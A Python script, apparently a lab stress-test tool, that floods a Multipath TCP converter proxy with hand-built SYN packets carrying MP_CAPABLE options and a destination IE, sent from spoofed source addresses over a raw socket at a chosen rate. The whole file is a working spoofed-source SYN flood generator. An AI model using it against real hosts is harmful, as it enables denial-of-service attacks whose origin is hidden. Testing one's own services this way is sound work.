#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""SYN flood at a network MCP: SYNs with MP_CAPABLE (v1, RFC 8684 SYN form)
and an MP_CONVERT destination IE as SYN payload, from spoofed sources.

  synflood.py [--count 10000] [--sources 10.1.1.100-10.1.1.199 | PREFIX/LEN]
              [--to 10.9.0.1:5555] [--ie-destination 10.2.0.2:9100]
              [--rate PPS] [--json]

Each SYN is built by hand and sent on a raw socket with IP_HDRINCL: IPv4
(the kernel fills in the header checksum), TCP with MSS, SACK-permitted,
window scale and MP_CAPABLE (kind 30, length 4, version 1, flags H), a
random source port and sequence number, and the IE as data (a TFO-style SYN:
TCP_FASTOPEN with cookies not required makes the listener accept the data).
The sources cycle through the range. --rate paces the sending (0: as fast
as the socket takes them). Prints how many SYNs were sent.
"""
import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mp_convert  # noqa: E402

TCP_OPTIONS = bytes([
    2, 4, 0x05, 0xB4,  # MSS 1460
    4, 2,              # SACK permitted
    1,                 # NOP
    3, 3, 7,           # window scale 7
    1, 1,              # NOP NOP: MP_CAPABLE on a 4-byte boundary
    30, 4, 0x01, 0x01,  # MP_CAPABLE: subtype 0, version 1; flags H (HMAC-SHA256)
])


def parse_sources(text):
    if "-" in text:
        first, last = (ipaddress.IPv4Address(x) for x in text.split("-"))
        return [ipaddress.IPv4Address(a) for a in range(int(first), int(last) + 1)]
    net = ipaddress.IPv4Network(text, strict=False)
    hosts = list(net.hosts())
    return hosts or [net.network_address]


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn_packet(src, dst, dport, payload, rng):
    sport = rng.randrange(1024, 65536)
    seq = rng.getrandbits(32)
    offset_words = (20 + len(TCP_OPTIONS)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, offset_words << 4, 0x02, 64240, 0, 0)
    segment = tcp + TCP_OPTIONS + payload
    pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    csum = checksum(pseudo + segment)
    segment = segment[:16] + struct.pack("!H", csum) + segment[18:]
    total = 20 + len(segment)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, rng.getrandbits(16), 0x4000, 64,
                     socket.IPPROTO_TCP, 0, src.packed, dst.packed)
    return ip + segment


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--count", type=int, default=10000)
    p.add_argument("--sources", default="10.1.1.100-10.1.1.199",
                   help="FIRST-LAST or PREFIX/LEN")
    p.add_argument("--to", default="10.9.0.1:5555", help="the MCP's ADDR:PORT")
    p.add_argument("--ie-destination", default="10.2.0.2:9100",
                   help="ADDR:PORT in the destination IE")
    p.add_argument("--rate", type=float, default=0, help="SYNs per second (0: unpaced)")
    p.add_argument("--seed", type=int, default=None)
    p.add_argument("--json", action="store_true")
    args = p.parse_args()

    sources = parse_sources(args.sources)
    host, port = args.to.rsplit(":", 1)
    dst, dport = ipaddress.IPv4Address(host), int(port)
    ie_host, ie_port = args.ie_destination.rsplit(":", 1)
    payload = mp_convert.destination_ie(ie_host, int(ie_port))
    rng = random.Random(args.seed)

    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    sent = errors = 0
    last_error = None
    start = time.monotonic()
    for i in range(args.count):
        if args.rate > 0:
            due = start + i / args.rate
            delay = due - time.monotonic()
            if delay > 0:
                time.sleep(delay)
        pkt = syn_packet(sources[i % len(sources)], dst, dport, payload, rng)
        try:
            sock.sendto(pkt, (str(dst), 0))
            sent += 1
        except OSError as e:  # ENOBUFS under pressure: counted, not retried
            errors += 1
            last_error = e.strerror
    seconds = time.monotonic() - start
    result = {"sent": sent, "send_errors": errors, "sources": len(sources),
              "seconds": round(seconds, 3), "to": args.to,
              "ie_destination": args.ie_destination}
    if last_error:
        result["last_error"] = last_error
    if args.json:
        print(json.dumps(result))
    else:
        print("sent %d SYNs (MP_CAPABLE + destination IE %s) from %d sources to %s in %.2f s"
              "%s" % (sent, args.ie_destination, len(sources), args.to, seconds,
                      ", %d send errors (%s)" % (errors, last_error) if errors else ""))
    return 0 if sent else 1


if __name__ == "__main__":
    sys.exit(main())
